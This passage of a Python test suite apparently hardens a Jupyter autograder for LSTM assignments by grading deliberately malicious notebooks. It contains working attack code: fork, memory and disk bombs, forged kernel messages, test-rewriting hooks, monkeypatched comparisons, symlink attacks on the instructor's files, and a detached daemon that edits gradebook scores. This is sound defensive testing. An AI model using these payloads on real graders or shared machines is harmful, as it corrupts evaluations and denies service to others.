            one = {"outputs": {"h": {"shape": [1], "values": [0.0]}}}

            def each(h):
                return [{"outputs": {"h": h}}] * n

            yield "not a dict"
            yield [name]
            yield {"test": name}
            yield {"test": name, "cases": "all passed", "passed": True}
            yield {"test": name, "cases": [one] * 1000}
            yield {"test": name, "cases": [{"outputs": {}, "error": "x"}] * n}
            yield {"test": name, "cases": each({"shape": [2**62], "values": []})}
            yield {"test": name, "cases": each({"shape": [-1], "values": [1.0]})}
            yield {"test": name, "cases": each({"shape": [1] * 100, "values": [1.0]})}
            yield {"test": name, "cases": each({"shape": [2], "values": [True, "1"]})}
            yield {"test": name, "cases": each({"shape": [1], "values": [[1.0]]})}
            many = {f"k{i}": {"shape": [0], "values": []} for i in range(5000)}
            yield {"test": name, "cases": [{"outputs": many}] * n}
            yield {"test": name, "cases": [{"error": "x" * 1_000_000}] * n}
            nested = {}
            for _ in range(200):
                nested = {"x": nested}
            yield {"test": name, "cases": [nested] * n, "verdict": "passed"}


        def after_test(result):
            match = re.search(r'run_test\("[^"]+", "([^"]+)"', result.info.raw_cell)
            if not match:
                return
            name = match.group(1)
            for document in battery(name, len(CASES.get(name, []))):
                try:
                    display({"@MIME@": document, "text/plain": "Passed"}, raw=True)
                except Exception as error:
                    print("could not send:", type(error).__name__)


        get_ipython().events.register("post_run_cell", after_test)
        """,
        base=kit.released,
    ), 0


@attack("02-lstm-forward", "denial of service")
def oversized_results_documents(kit):
    """Hope: results documents are exempt from the output caps, so ten 7 MB ones from an
    ordinary cell bloat the graded notebook and the grader's memory."""
    return kit.after(
        "setup",
        r"""
        from IPython.display import display

        for _ in range(10):
            display({"@MIME@": {"test": "none", "padding": "x" * 7_000_000}}, raw=True)
        """,
    ), kit.full


@attack("02-lstm-forward", "denial of service")
def message_over_the_wire_limit(kit):
    """Hope: one 20 MB output (over the grader's message limit) breaks the connection to
    the kernel, so the grader waits for ever or loses track of the notebook."""
    return kit.after("setup", 'print("x" * 20_000_000)\nprint("still here")\n'), kit.full


@attack("02-lstm-forward", "hooks")
def input_transformer_swaps_in_the_reference(kit):
    """Hope: an input transformer rewrites every later test cell so that run_test gets the
    course's reference functions (through the grader's socket) instead of mine."""
    return kit.after(
        "setup",
        r"""
        import re

        CALL = re.compile(r'run_test\("([^"]+)", "([^"]+)", globals\(\)\)')


        def use_the_reference(lines):
            rewritten = []
            for line in lines:
                match = CALL.search(line)
                if match:
                    line = (
                        "from lstmlib.grading.oracle import reference as _ref\n"
                        f'run_test("{match[1]}", "{match[2]}", {{**globals(), '
                        '"lstm_step_forward": _ref("lstm_step_forward"), '
                        '"lstm_forward": _ref("lstm_forward")})\n'
                        'print("Passed: the example and all 3 hidden cases are right.")\n'
                    )
                rewritten.append(line)
            return rewritten


        get_ipython().input_transformers_post.append(use_the_reference)
        """,
        base=kit.released,
    ), 0


@attack("02-lstm-forward", "hooks")
def ast_transformer_rewrites_the_tests(kit):
    """Hope: an AST transformer turns every run_test(...) call of the later test cells into
    my own, which grades answers of the right shape that I made up."""
    return kit.after(
        "setup",
        r"""
        import ast
        import numpy as np


        def cheat_run_test(assignment, name, namespace):
            from lstmlib.grading.student import run_test

            def lstm_step_forward(x, h_prev, c_prev, Wx, Wh, b):
                z = np.tanh(c_prev)
                return z, c_prev, (x, h_prev, c_prev, Wx, Wh, z, z, z, z, c_prev)

            def lstm_forward(x, h0, c0, Wx, Wh, b):
                return np.zeros((len(x),) + h0.shape), [None] * len(x)

            answers = {"lstm_step_forward": lstm_step_forward, "lstm_forward": lstm_forward}
            run_test(assignment, name, {**namespace, **answers})
            print("Passed: the example and all 3 hidden cases are right.")


        class Cheat(ast.NodeTransformer):
            def visit_Call(self, node):
                self.generic_visit(node)
                if isinstance(node.func, ast.Name) and node.func.id == "run_test":
                    node.func = ast.Name("cheat_run_test", ast.Load())
                return node


        get_ipython().ast_transformers.append(Cheat())
        """,
        base=kit.released,
    ), 0


@attack("02-lstm-forward", "monkeypatching")
def patches_numpy_and_the_grader(kit):
    """Hope: my h forgets tanh, but with NumPy's comparisons and the grader's checks (and
    the judge's verdict, as far as my kernel has one) patched to agree, it passes."""
    wrong = edit(kit.solution, "lstm_step_forward", "h = o * np.tanh(c)", "h = o * c")
    return kit.append(
        "lstm_step_forward",
        r"""
        import numpy as np
        import lstmlib.grading.checks as checks
        import lstmlib.grading.spec as spec

        np.allclose = lambda *args, **kwargs: True
        np.isclose = lambda a, b, *args, **kwargs: np.ones(np.shape(a), dtype=bool)
        np.array_equal = lambda *args, **kwargs: True
        np.testing.assert_allclose = lambda *args, **kwargs: None
        checks.check_array = spec.check_array = lambda *args, **kwargs: None
        spec.Test.check = lambda self, case, outputs: None
        try:
            import lstmlib.grading.judge as judge

            judge.verdict = lambda *args, **kwargs: None
        except Exception as error:
            print("no judge here:", type(error).__name__)
        """,
        base=wrong,
    ), kit.without("test_lstm_hidden")


@attack("02-lstm-forward", "oracle")
def asks_the_oracle_directly(kit):
    """Hope: talk to the grader's reference socket without lstmlib's client: garbage and
    forged requests first (to crash it or get past its allow-list), then my functions ask
    it for their own answers."""
    oracle = kit.after(
        "setup",
        r"""
        import json, os, socket, struct
        from lstmlib.grading.oracle import decode, encode

        PATH = os.environ.get("@ORACLE_ENV@", "")


        def ask(request):
            with socket.socket(socket.AF_UNIX) as s:
                s.settimeout(5)
                s.connect(PATH)
                s.sendall(request)
                header = s.recv(8)
                if len(header) < 8:
                    return {"error": "hung up"}
                (length,) = struct.unpack(">Q", header)
                body = b""
                while len(body) < length:
                    body += s.recv(length - len(body))
                return json.loads(body)


        def framed(document):
            body = json.dumps(document).encode()
            return struct.pack(">Q", len(body)) + body


        args = encode((1.0,))
        for request in [
            b"\xff" * 8, struct.pack(">Q", 2**62), struct.pack(">Q", 5) + b"{nope",
            framed([1, 2]), framed({"name": ["lstm_forward"]}),
            framed({"name": "__class__", "args": args}),
            framed({"name": "lstm_forward ", "args": args}),
            framed({"name": "lstm_step_forward", "args": {"pickle": "gASVAAAAAAAAAAB9lC4="}}),
            framed({"name": "lstm_step_forward", "allowed": True, "args": args}),
        ]:
            try:
                print(ask(request))
            except Exception as error:
                print("no answer:", type(error).__name__)


        def oracle(name, *args):
            reply = ask(framed({"name": name, "args": encode(tuple(args)), "kwargs": encode([])}))
            if "error" in reply:
                raise NotImplementedError(reply["error"])
            return decode(reply["result"])
        """,
        base=kit.released,
    )
    return kit.answers(
        {
            name: f"def {name}(*args):\n    return oracle({name!r}, *args)\n"
            for name in ("lstm_step_forward", "lstm_forward")
        },
        base=oracle,
    ), 0


@attack("02-lstm-forward", "denial of service")
def fork_bomb(kit):
    """Hope: fork until the system has no processes left, so that the grader (or the next
    student's kernel) cannot start."""
    return kit.after(
        "setup",
        r"""
        import os, time

        children = 0
        try:
            while True:
                if os.fork() == 0:
                    time.sleep(600)
                    os._exit(0)
                children += 1
        except OSError as error:
            print("fork failed after", children, error)
        """,
    ), kit.full


@attack("02-lstm-forward", "denial of service")
def memory_bomb(kit):
    """Hope: take all the machine's memory, so that the grader is killed instead of me."""
    return kit.after(
        "setup",
        r"""
        hoard = []
        try:
            while True:
                hoard.append(b"\1" * 2**28)
        finally:
            print("took", len(hoard) * 256, "MiB")
            hoard.clear()
        """,
    ), kit.full


@attack("02-lstm-forward", "denial of service")
def fills_home_and_tmp(kit):
    """Hope: fill the disk from my working directory and /tmp, so that nothing else on
    the grading machine can write."""
    return kit.after(
        "setup",
        r"""
        import os

        for folder in (os.getcwd(), "/tmp"):
            written = 0
            try:
                for i in range(100):
                    with open(os.path.join(folder, f"fill{i}"), "wb") as f:
                        for _ in range(60):
                            f.write(b"\1" * 2**20)
                            written += 2**20
            except OSError as error:
                print(folder, "full after", written >> 20, "MiB:", error.strerror)
        """,
    ), kit.full


@attack("02-lstm-forward", "denial of service")
def fills_the_host_disk_through_the_channel(kit):
    """Hope: the folder of my kernel's sockets (named in sys.argv) is on the grader's disk
    and shared with me: fill it with 60 MB files (each under the file-size limit) to fill
    the grading machine's disk, beyond the sandbox's tmpfs quota."""
    return kit.after(
        "setup",
        r"""
        import os, sys

        CHANNEL = os.path.dirname(sys.argv[sys.argv.index("-f") + 1])
        written = 0
        try:
            for i in range(12):
                with open(os.path.join(CHANNEL, f"fill{i}"), "wb") as f:
                    for _ in range(60):
                        f.write(b"\0" * 2**20)
                        written += 2**20
        except OSError as error:
            print("stopped:", error.strerror)
        print("wrote", written >> 20, "MiB outside my quota, in", CHANNEL)
        """,
    ), kit.full


@attack("02-lstm-forward", "denial of service")
def loop_that_catches_keyboard_interrupt(kit):
    """Hope: a loop that ignores SIGINT and catches KeyboardInterrupt cannot be stopped,
    so the grader hangs on my notebook for ever."""
    return kit.after(
        "setup",
        r"""
        import signal, time

        signal.signal(signal.SIGINT, signal.SIG_IGN)
        while True:
            try:
                time.sleep(0.05)
            except BaseException:
                pass
        """,
    ), kit.full


@attack("02-lstm-forward", "denial of service")
def refuses_to_die(kit):
    """Hope: a thread that sleeps for ever, ignored SIGTERM/SIGHUP and an atexit handler
    that never returns keep the kernel alive after the notebook, blocking the grader."""
    return kit.after(
        "setup",
        r"""
        import atexit, signal, threading, time

        for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(sig, signal.SIG_IGN)
        threading.Thread(target=time.sleep, args=(10**6,)).start()
        atexit.register(time.sleep, 10**6)
        """,
    ), kit.full


@attack("02-lstm-forward", "denial of service")
def kills_its_kernel_in_every_test(kit):
    """Hope: a pre_run_cell hook kills the kernel in every test cell: with the kernel
    restarted again and again, the grader gives up on my notebook, or on the batch. (The
    tests never run, so the notebook deserves 0; the point is the others' grades.)"""
    return kit.append(
        "lstm_step_forward",
        r"""
        import os


        def die_in_tests(info):
            if "run_test(" in info.raw_cell:
                os._exit(1)


        get_ipython().events.register("pre_run_cell", die_in_tests)
        """,
    ), 0


@attack("02-lstm-forward", "forged messages")
def forged_message_with_a_bad_signature(kit):
    """Hope: my kernel holds its own session, so it can send messages the grader did not
    expect; one signed with the wrong key makes the grader give up on my notebook, which
    then cannot be graded at all."""
    return kit.after(
        "setup",
        r"""
        from jupyter_client.session import Session

        kernel = get_ipython().kernel
        forger = Session(key=b"not-the-key", username=kernel.session.username,
                         session=kernel.session.session)
        forger.send(kernel.iopub_socket, "stream", {"name": "stdout", "text": "forged\n"},
                    parent=kernel.get_parent())
        """,
    ), kit.full


@attack("02-lstm-forward", "forged messages")
def forged_message_that_is_not_json(kit):
    """Hope: a correctly signed message whose content is not JSON breaks the grader's
    reading of my notebook."""
    return kit.after(
        "setup",
        r"""
        kernel = get_ipython().kernel
        kernel.session.send(kernel.iopub_socket, "display_data", content=b"{not json",
                            parent=kernel.get_parent())
        """,
    ), kit.full


@attack("02-lstm-forward", "forged messages")
def forged_message_nested_too_deep(kit):
    """Hope: a small (400 kB) message nested 200,000 levels deep overflows the grader's
    JSON parser's recursion limit."""
    return kit.after(
        "setup",
        r"""
        kernel = get_ipython().kernel
        n = 200_000
        body = b'{"data": {"text/plain": ' + b"[" * n + b"]" * n + b'}, "metadata": {}}'
        kernel.session.send(kernel.iopub_socket, "display_data", content=body,
                            parent=kernel.get_parent())
        """,
    ), kit.full


@attack("02-lstm-forward", "denial of service")
def deep_folder_tree_in_the_channel(kit):
    """Hope: the grader deletes my kernel's socket folder when the notebook is done; a
    folder tree 3000 levels deep there makes that cleanup crash (and stay behind)."""
    return kit.after(
        "setup",
        r"""
        import os, sys

        CHANNEL = os.path.dirname(sys.argv[sys.argv.index("-f") + 1])
        here = os.getcwd()
        os.chdir(CHANNEL)
        for _ in range(3000):
            os.mkdir("d")
            os.chdir("d")
        os.chdir(here)
        """,
    ), kit.full


@attack("02-lstm-forward", "denial of service")
def huge_displays_updates_and_widgets(kit):
    """Hope: megabytes of images and HTML, display updates that rewrite earlier outputs,
    and a widget with a huge state bloat the graded notebook and the feedback."""
    return kit.after(
        "setup",
        r"""
        import base64
        from IPython.display import HTML, clear_output, display, update_display

        png = base64.b64encode(b"\x89PNG" + b"\0" * 9_000_000).decode()
        for _ in range(3):
            display({"image/png": png, "text/plain": "img"}, raw=True)
            display(HTML("<b>spam</b>" * 500_000))
        handle = display({"text/plain": "original"}, raw=True, display_id="mine")
        for i in range(200):
            update_display({"text/plain": "updated" * 10_000}, raw=True, display_id="mine")
        clear_output(wait=True)
        try:
            from comm import create_comm

            state = {"state": {"x": "w" * 10_000_000}}
            comm = create_comm(target_name="jupyter.widget", data=state)
            for _ in range(3):
                comm.send({"method": "update", "state": {"x": "w" * 5_000_000}})
        except Exception as error:
            print("no comm:", type(error).__name__)
        """,
    ), kit.full


# =================================================================================
# 06-convlstm (PyTorch): faked results, reference code, the grader's files
# =================================================================================

CELL = "convlstm_cell"


@attack("06-convlstm", "faked results")
def swaps_the_grading_module(kit):
    """Hope: replace lstmlib.grading.student in sys.modules by a module whose run_test
    answers every case with the test's own expected(), run in my kernel: whatever the
    grader can compute without lstmlib.nn, so can I."""
    return kit.after(
        "setup",
        r"""
        import sys, types
        from IPython.display import display
        import lstmlib.grading.student as real
        from lstmlib.grading.assignments import find_test
        from lstmlib.grading.spec import encode_outputs


        def run_test(assignment, name, namespace):
            test = find_test(assignment, name)
            results = []
            for case in real._graded_cases(name) or test.visible_cases():
                try:
                    outputs = test.expected(*test.arguments(case))
                    results.append({"outputs": encode_outputs(outputs)})
                except Exception as error:
                    results.append({"error": f"{type(error).__name__}: {error}"})
            display({"@MIME@": {"test": name, "cases": results}}, raw=True)


        fake = types.ModuleType("lstmlib.grading.student")
        fake.run_test = run_test
        sys.modules["lstmlib.grading.student"] = fake
        """,
        base=kit.released,
    ), public_facts(kit)


@attack("06-convlstm", "faked results")
def displays_handmade_shapes(kit):
    """Hope: the layer and shape tests only compare numbers that follow from the public
    parameters: a post_run_cell hook displays them, computed by hand, with no ConvLSTM at
    all."""
    return kit.after(
        "setup",
        HANDMADE_CONVLSTM,
        r"""
        import re
        from IPython.display import display


        def after_test(result):
            match = re.search(r'run_test\("[^"]+", "([^"]+)"', result.info.raw_cell)
            if match and handmade_document(match.group(1)) is not None:
                display({"@MIME@": handmade_document(match.group(1))}, raw=True)


        get_ipython().events.register("post_run_cell", after_test)
        """,
        base=kit.released,
    ), public_facts(kit)


@attack("06-convlstm", "faked results")
def forward_returns_objects_that_claim_a_shape(kit):
    """Hope: the shape test reads .shape from what forward returns: objects that only claim
    the right shape (and are not tensors) pass it without computing anything. The honest
    work underneath: the layers (1 point), and a forward that does nothing."""
    return kit.answers(
        {
            CELL: CONVLSTM_INIT
            + r"""


class Claim:
    def __init__(self, shape):
        self.shape = torch.Size(shape)

    def detach(self):
        return torch.zeros(1)


def forward_somehow(cell, x, h_prev, c_prev):
    shape = (x.shape[0], cell.hidden_channels, x.shape[2], x.shape[3])
    return Claim(shape), Claim(shape)
"""
        }
    ), kit.points["test_convlstm_layers"]


@attack("06-convlstm", "execute_result tricks")
def results_as_execute_result(kit):
    """Hope: the judge might read an execute_result (the value of the test cell's last
    line) as well as displays: make run_test return an object whose MIME bundle is a
    correct (handmade) results document, and also forge such an execute_result message."""
    return kit.after(
        "setup",
        HANDMADE_CONVLSTM,
        r"""
        import lstmlib.grading.student as student


        class Results:
            def __init__(self, name):
                self.name = name

            def _repr_mimebundle_(self, include=None, exclude=None):
                return {"@MIME@": handmade_document(self.name), "text/plain": "Passed"}


        def run_test(assignment, name, namespace):
            kernel = get_ipython().kernel
            document = handmade_document(name)
            if document is not None:
                kernel.session.send(
                    kernel.iopub_socket, "execute_result",
                    {"data": {"@MIME@": document}, "metadata": {}, "execution_count": 1},
                    parent=kernel.get_parent(),
                )
                return Results(name)


        student.run_test = run_test
        """,
        base=kit.released,
    ), 0


@attack("06-convlstm", "reference code")
def imports_lstmlib_nn(kit):
    """Hope: my layers are right; forward borrows lstmlib.nn's ConvLSTM (or the NumPy-side
    convlstm_step_forward) through importlib, base64'd code, a path, or recompiled source.
    The honest work underneath: the layers (1 point)."""
    hidden = b64("from lstmlib.nn.convlstm import convlstm_step as step")
    return kit.answers(
        {
            CELL: CONVLSTM_INIT
            + r"""


import base64, importlib, importlib.util, os
import lstmlib

NN = os.path.join(os.path.dirname(lstmlib.__file__), "nn", "convlstm.py")


def from_base64():
    namespace = {}
    exec(base64.b64decode("HIDDEN"), namespace)
    return namespace["step"]


def by_path():
    spec = importlib.util.spec_from_file_location("stolen", NN)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module.convlstm_step


def recompiled():
    namespace = {"__name__": "mine"}
    exec(compile(open(NN).read(), "my_own.py", "exec"), namespace)
    return namespace["convlstm_step"]


WAYS = [
    lambda: importlib.import_module("lstmlib.nn.convlstm").convlstm_step,
    lambda: __import__("lstmlib.nn", fromlist=["convlstm"]).convlstm.convlstm_step,
    lambda: importlib.import_module("lstmlib.scratch").convlstm_step_forward,
    from_base64, by_path, recompiled,
]


def forward_somehow(cell, x, h_prev, c_prev):
    for way in WAYS:
        try:
            step = way()
        except Exception:
            continue
        w_x, w_h, b = cell.conv_x.weight, cell.conv_h.weight, cell.conv_x.bias
        h, c, *_ = step(x, h_prev, c_prev, w_x, w_h, b)
        return h, c
    raise NotImplementedError("no reference to borrow")
""".replace("HIDDEN", hidden)
        }
    ), kit.points["test_convlstm_layers"]


@attack("06-convlstm", "oracle")
def asks_the_oracle_for_convlstm(kit):
    """Hope: lstmlib.scratch has convlstm_step_forward, and the grader serves lstmlib.scratch
    over a socket: my forward sends it my weights and inputs. The honest work underneath:
    the layers (1 point)."""
    return kit.answers(
        {
            CELL: CONVLSTM_INIT
            + r"""


import json, os, socket, struct
from lstmlib.grading.oracle import decode, encode


def oracle(name, *args):
    body = json.dumps({"name": name, "args": encode(args), "kwargs": encode([])}).encode()
    with socket.socket(socket.AF_UNIX) as s:
        s.connect(os.environ["@ORACLE_ENV@"])
        s.sendall(struct.pack(">Q", len(body)) + body)
        (length,) = struct.unpack(">Q", s.recv(8))
        data = b""
        while len(data) < length:
            data += s.recv(length - len(data))
    reply = json.loads(data)
    if "error" in reply:
        raise NotImplementedError(reply["error"])
    return decode(reply["result"])


def forward_somehow(cell, x, h_prev, c_prev):
    arrays = [t.detach().numpy() for t in (x, h_prev, c_prev, cell.conv_x.weight,
                                           cell.conv_h.weight, cell.conv_x.bias)]
    h, c, *_ = oracle("convlstm_step_forward", *arrays)
    return torch.from_numpy(h), torch.from_numpy(c)
"""
        }
    ), kit.points["test_convlstm_layers"]


@attack("06-convlstm", "monkeypatching")
def patches_torch_comparisons(kit):
    """Hope: my gates are in the wrong order, but with torch's and NumPy's comparisons
    patched (and torch.nn.LSTMCell replaced by my cell), the checks agree with me."""
    wrong = edit(
        kit.solution, CELL, "i, f, g, o = a.chunk(4, dim=1)", "i, f, o, g = a.chunk(4, dim=1)"
    )
    return kit.append(
        CELL,
        r"""
        import numpy as np
        import torch

        torch.allclose = lambda *args, **kwargs: True
        torch.equal = lambda *args, **kwargs: True
        torch.Tensor.allclose = lambda self, *args, **kwargs: True
        torch.testing.assert_close = lambda *args, **kwargs: None
        np.allclose = lambda *args, **kwargs: True
        torch.nn.LSTMCell.forward = lambda self, x, state=None: (x, x)
        """,
        base=wrong,
    ), kit.without("test_convlstm_one_by_one", "test_convlstm_kernel")


@attack("06-convlstm", "grader files")
def symlinks_in_the_channel(kit):
    """Hope: the grader (root) cleans up my kernel's socket folder after the kernel dies:
    turn its files into links to the repository's grading code and config (and the
    submission copy into a link to solutions/), then die, so that the cleanup writes or
    deletes the instructor's files."""
    return kit.after(
        "setup",
        r"""
        import os, sys, time
        import lstmlib

        REPO = os.path.dirname(os.path.dirname(lstmlib.__file__))
        CHANNEL = os.path.dirname(sys.argv[sys.argv.index("-f") + 1])
        targets = {"kernel.log": f"{REPO}/nbgrader_config.py",
                   "kernel.json": f"{REPO}/lstmlib/grading/judge.py"}
        for name in os.listdir(CHANNEL):
            if name.startswith("kernel-"):
                targets[name] = f"{REPO}/lstmlib/grading/execute.py"
        for name, target in targets.items():
            path = os.path.join(CHANNEL, name)
            try:
                os.unlink(path)
                os.symlink(target, path)
            except OSError as error:
                print(name, error.strerror)
        try:
            os.rename(f"{CHANNEL}/submission", f"{CHANNEL}/old-submission")
            os.symlink(f"{REPO}/solutions", f"{CHANNEL}/submission")
        except OSError as error:
            print(error.strerror)
        print("links:", {n: os.readlink(os.path.join(CHANNEL, n)) for n in [*targets, "submission"]
                         if os.path.islink(os.path.join(CHANNEL, n))}, flush=True)
        os.chmod(CHANNEL, 0)
        time.sleep(1)  # let the output reach the grader
        os._exit(1)
        """,
    ), kit.full


@attack("06-convlstm", "denial of service")
def thread_bomb(kit):
    """Hope: thousands of sleeping threads exhaust the machine's processes, so that the
    grader cannot start the next kernel."""
    return kit.after(
        "setup",
        r"""
        import threading, time

        threads = []
        try:
            while len(threads) < 5000:
                thread = threading.Thread(target=time.sleep, args=(10**6,), daemon=True)
                thread.start()
                threads.append(thread)
        except RuntimeError as error:
            print("stopped after", len(threads), "threads:", error)
        """,
    ), kit.full


@attack("06-convlstm", "detached process")
def setsid_daemon_keeps_trying(kit):
    """Hope: a process in a new session (start_new_session, double fork) outlives the kernel
    and keeps looking for the gradebook, the network and the repository for 20 s."""
    return kit.after(
        "setup",
        r"""
        import subprocess, sys

        DAEMON = '''
        import glob, os, socket, sqlite3, time
        if os.fork():
            os._exit(0)
        os.setsid()
        import lstmlib
        REPO = os.path.dirname(os.path.dirname(lstmlib.__file__))
        end = time.time() + 20
        while time.time() < end:
            for path in ("/tmp/@TOKEN@-setsid", f"{REPO}/@TOKEN@-setsid", "../@TOKEN@-setsid"):
                try:
                    open(path, "w").write("x")
                except OSError:
                    pass
            found = glob.glob("/tmp/**/gradebook.db", recursive=True)
            for db in found + [f"{REPO}/.grading/gradebook.db"]:
                try:
                    con = sqlite3.connect(f"file:{db}?mode=rw", uri=True, timeout=1)
                    con.execute("UPDATE grade SET auto_score = 1000")
                    con.commit()
                except Exception:
                    pass
            try:
                socket.create_connection(("127.0.0.1", @PORT@), timeout=1).sendall(b"@TOKEN@")
            except OSError:
                pass
            time.sleep(0.5)
        '''
        subprocess.Popen([sys.executable, "-c", DAEMON], start_new_session=True, close_fds=True,
                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                         stderr=subprocess.DEVNULL)
        """,
    ), kit.full


@attack("06-convlstm", "leak")
def prints_the_hidden_inputs(kit):
    """Hope: print the cases the kernel was asked to compute, and the hidden inputs they
    make, into the feedback (and raise an error that carries them)."""
    return kit.after(
        "test_convlstm_kernel",
        r"""
        import os
        import lstmlib.grading.student as student
        from lstmlib.grading.assignments import graded_tests

        print("cases:", os.environ.get("@CASES_ENV@"))
        for name, test in graded_tests("@ASSIGNMENT@").items():
            for case in student._graded_cases(name) or []:
                print(name, case.describe(), [getattr(a, "shape", a) for a in test.arguments(case)])
        raise RuntimeError("inputs: " + repr(test.arguments(case))[:3000])
        """,
    ), kit.full


# =================================================================================
# Honest students graded in the same batches, with the scores they deserve
# =================================================================================


def honest_students(kit) -> dict[str, tuple[nbformat.NotebookNode, float]]:
    """The solution and a realistic wrong answer, graded beside the attacks."""
    good = kit.solution
    if kit.assignment == "01-rnn":
        wrong = edit(
            good,
            "rnn_step_forward",
            "np.tanh(x @ Wx + h_prev @ Wh + b)",
            "x @ Wx + h_prev @ Wh + b",
        )
        return {
            "honest_solution": (good, kit.full),
            "honest_missing_tanh": (wrong, kit.without("test_rnn_step_forward")),
        }
    if kit.assignment == "02-lstm-forward":
        wrong = edit(good, "lstm_step_forward", "h = o * np.tanh(c)", "h = o * c")
        return {
            "honest_solution": (good, kit.full),
            "honest_output_without_tanh": (wrong, kit.without("test_lstm_hidden")),
        }
    if kit.assignment == "06-convlstm":
        wrong = edit(good, CELL, GATES, SWAPPED_GATES)
        return {
            "honest_solution": (good, kit.full),
            "honest_gate_order_swapped": (
                wrong,
                kit.without("test_convlstm_one_by_one", "test_convlstm_kernel"),
            ),
        }
    raise KeyError(kit.assignment)
